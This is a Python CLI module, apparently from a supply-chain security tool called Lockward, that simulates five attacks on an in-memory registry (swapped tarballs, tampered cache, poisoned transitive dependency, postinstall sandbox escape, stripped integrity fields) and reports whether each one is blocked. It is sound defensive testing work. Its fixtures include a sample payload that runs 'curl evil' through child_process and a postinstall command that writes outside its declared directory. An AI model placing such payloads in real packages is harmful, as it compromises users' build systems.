"""``lockward demo`` — simulate supply-chain attacks against a scratch store.

Each scenario builds a small synthetic manifest in a temporary directory,
serves its tarballs from memory, applies one attack and reports whether the
gate blocked it. Nothing touches the network or the configured store.
"""

from __future__ import annotations

import io
import tarfile
import tempfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import typer
from pydantic import BaseModel, ConfigDict
from rich.console import Console
from rich.panel import Panel
from rich.table import Table

from lockward.core.artifact_store import ContentAddressedStore
from lockward.core.errors import MissingIntegrityField
from lockward.core.fetcher import StaticFetcher
from lockward.core.hasher import compute_digest
from lockward.core.manifest_resolver import ManifestResolver
from lockward.core.orchestrator import BuildOrchestrator
from lockward.core.sandbox import Sandbox
from lockward.models.build import BuildResult, ErrorKind
from lockward.models.digest import HashAlgorithm

console = Console()

REGISTRY = "https://registry.example.test"


class ScenarioOutcome(BaseModel):
    """Whether one simulated attack was stopped, and where."""

    model_config = ConfigDict(frozen=True)

    name: str
    attack: str
    blocked: bool
    failing_node: str | None = None
    error_kind: str | None = None
    detail: str = ""


# ---------------------------------------------------------------------------
# Fixture helpers
# ---------------------------------------------------------------------------


def pack_tarball(files: Mapping[str, bytes]) -> bytes:
    """A reproducible npm-style tarball with every file under ``package/``."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            info.mode = 0o644
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def package(name: str, version: str, body: str = "") -> bytes:
    manifest = f'{{"name": "{name}", "version": "{version}"}}'.encode()
    return pack_tarball({"package.json": manifest, "index.js": body.encode()})


def tarball_url(name: str, version: str) -> str:
    return f"{REGISTRY}/{name}/-/{name}-{version}.tgz"


def manifest_entry(
    name: str,
    version: str,
    data: bytes,
    dependencies: Sequence[str] = (),
    *,
    policy: str = "disabled",
    scripts: Sequence[dict[str, Any]] = (),
) -> dict[str, Any]:
    return {
        "name": name,
        "version": version,
        "integrity": compute_digest(data, HashAlgorithm.SHA512).sri,
        "resolved": tarball_url(name, version),
        "dependencies": list(dependencies),
        "executionPolicy": policy,
        "lifecycleScripts": list(scripts),
    }


def _build(
    workdir: Path, entries: list[dict[str, Any]], content: Mapping[str, Any]
) -> tuple[BuildResult, StaticFetcher, ContentAddressedStore]:
    store = ContentAddressedStore(workdir / "store")
    fetcher = StaticFetcher(content)
    graph = ManifestResolver().resolve({"manifestVersion": 1, "entries": entries})
    orchestrator = BuildOrchestrator(
        store, fetcher, Sandbox(store, default_timeout_s=30), concurrency=4
    )
    return orchestrator.build(graph), fetcher, store


def _outcome(name: str, attack: str, result: BuildResult, *expected: ErrorKind) -> ScenarioOutcome:
    return ScenarioOutcome(
        name=name,
        attack=attack,
        blocked=not result.success and result.error_kind in expected,
        failing_node=result.failing_node,
        error_kind=result.error_kind.value if result.error_kind else None,
        detail=result.error_message,
    )


# ---------------------------------------------------------------------------
# Scenarios
# ---------------------------------------------------------------------------


def silent_replacement(workdir: Path) -> ScenarioOutcome:
    """The registry serves different bytes under an already-pinned version."""
    genuine = package("left-pad", "1.3.0", "module.exports = pad;")
    replaced = package("left-pad", "1.3.0", "require('child_process').exec('curl evil');")
    entries = [manifest_entry("left-pad", "1.3.0", genuine)]
    result, _, _ = _build(workdir, entries, {tarball_url("left-pad", "1.3.0"): replaced})
    return _outcome(
        "silent-replacement",
        "registry swaps a published tarball",
        result,
        ErrorKind.DIGEST_MISMATCH,
    )


def registry_tampering(workdir: Path) -> ScenarioOutcome:
    """An artifact already in the local store is rewritten on disk."""
    genuine = package("lodash", "4.17.21", "module.exports = {};")
    entries = [manifest_entry("lodash", "4.17.21", genuine)]
    content = {tarball_url("lodash", "4.17.21"): genuine}
    first, _, store = _build(workdir, entries, content)
    if not first.success:
        return _outcome("registry-tampering", "cached artifact rewritten", first, ErrorKind.STORE_INTEGRITY)

    digest = compute_digest(genuine, HashAlgorithm.SHA512)
    stored = store.base_path / store.ref(digest).path
    stored.write_bytes(package("lodash", "4.17.21", "/* backdoor */"))

    second, _, _ = _build(workdir, entries, content)
    return _outcome(
        "registry-tampering",
        "cached artifact rewritten in the store",
        second,
        ErrorKind.STORE_INTEGRITY,
    )


def transitive_poisoning(workdir: Path) -> ScenarioOutcome:
    """A leaf two levels down is poisoned; nothing above it may be fetched."""
    app_pkg = package("app", "1.0.0")
    mid_pkg = package("mid", "2.0.0")
    leaf_pkg = package("leaf", "3.0.0")
    entries = [
        manifest_entry("app", "1.0.0", app_pkg, ["mid@2.0.0"]),
        manifest_entry("mid", "2.0.0", mid_pkg, ["leaf@3.0.0"]),
        manifest_entry("leaf", "3.0.0", leaf_pkg),
    ]
    content = {
        tarball_url("app", "1.0.0"): app_pkg,
        tarball_url("mid", "2.0.0"): mid_pkg,
        tarball_url("leaf", "3.0.0"): package("leaf", "3.0.0", "/* poisoned */"),
    }
    result, fetcher, _ = _build(workdir, entries, content)
    outcome = _outcome(
        "transitive-poisoning",
        "deep dependency replaced upstream",
        result,
        ErrorKind.DIGEST_MISMATCH,
    )
    dependents_fetched = [u for u in fetcher.calls if u != tarball_url("leaf", "3.0.0")]
    if dependents_fetched:
        return outcome.model_copy(
            update={"blocked": False, "detail": f"dependents fetched: {dependents_fetched}"}
        )
    return outcome


def post_install_escape(workdir: Path) -> ScenarioOutcome:
    """A postinstall script writes outside the outputs it declared.

    Without bubblewrap the host cannot confine the script, so the sandbox
    refuses to launch it at all; that also counts as blocked.
    """
    data = package("native-addon", "0.4.2")
    script = {
        "phase": "postinstall",
        "command": "mkdir -p build && echo ok > build/addon.node && echo pwned > ../escaped.sh",
        "outputs": ["build"],
        "timeoutSeconds": 20,
    }
    entries = [
        manifest_entry(
            "native-addon", "0.4.2", data, policy="sandboxed_mandatory", scripts=[script]
        )
    ]
    result, _, _ = _build(workdir, entries, {tarball_url("native-addon", "0.4.2"): data})
    return _outcome(
        "post-install-escape",
        "install script writes outside its declared outputs",
        result,
        ErrorKind.SANDBOX_WRITE_VIOLATION,
        ErrorKind.SANDBOX_LAUNCH_FAILED,
    )


def integrity_stripping(workdir: Path) -> ScenarioOutcome:
    """The lock file is edited to drop an entry's integrity field."""
    data = package("chalk", "5.3.0")
    entry = manifest_entry("chalk", "5.3.0", data)
    del entry["integrity"]
    fetcher = StaticFetcher({tarball_url("chalk", "5.3.0"): data})
    try:
        ManifestResolver().resolve({"manifestVersion": 1, "entries": [entry]})
    except MissingIntegrityField as exc:
        return ScenarioOutcome(
            name="integrity-stripping",
            attack="lock file entry loses its digest",
            blocked=not fetcher.calls,
            failing_node=exc.node or None,
            error_kind="missing_integrity_field",
            detail=str(exc),
        )
    return ScenarioOutcome(
        name="integrity-stripping",
        attack="lock file entry loses its digest",
        blocked=False,
        detail="manifest resolved without an integrity value",
    )


SCENARIOS: list[Callable[[Path], ScenarioOutcome]] = [
    silent_replacement,
    registry_tampering,
    transitive_poisoning,
    post_install_escape,
    integrity_stripping,
]


def run_scenarios(base_dir: Path | None = None) -> list[ScenarioOutcome]:
    """Run every scenario in its own scratch directory."""
    outcomes: list[ScenarioOutcome] = []
    with tempfile.TemporaryDirectory(prefix="lockward-demo-", dir=base_dir) as tmp:
        for scenario in SCENARIOS:
            workdir = Path(tmp) / scenario.__name__
            workdir.mkdir()
            outcomes.append(scenario(workdir))
    return outcomes


def demo_cmd() -> None:
    """Run the attack scenarios and report which ones the gate blocked."""
    console.print()
    console.print(
        Panel(
            "[bold]Lockward Attack Simulation[/bold]\n\n"
            "Each scenario runs against a scratch store with an in-memory registry.",
            border_style="cyan",
            padding=(1, 2),
        )
    )

    outcomes = run_scenarios()

    table = Table(title="Scenarios")
    table.add_column("Scenario", style="cyan")
    table.add_column("Attack")
    table.add_column("Result", justify="center")
    table.add_column("Stopped at")
    table.add_column("Error")
    for outcome in outcomes:
        verdict = "[green]BLOCKED[/green]" if outcome.blocked else "[red]NOT BLOCKED[/red]"
        table.add_row(
            outcome.name,
            outcome.attack,
            verdict,
            outcome.failing_node or "-",
            outcome.error_kind or "-",
        )
    console.print(table)

    missed = [o.name for o in outcomes if not o.blocked]
    if missed:
        console.print(f"[bold red]Not blocked:[/bold red] {', '.join(missed)}")
        raise typer.Exit(code=1)
    console.print(f"[bold green]All {len(outcomes)} attacks blocked.[/bold green]")
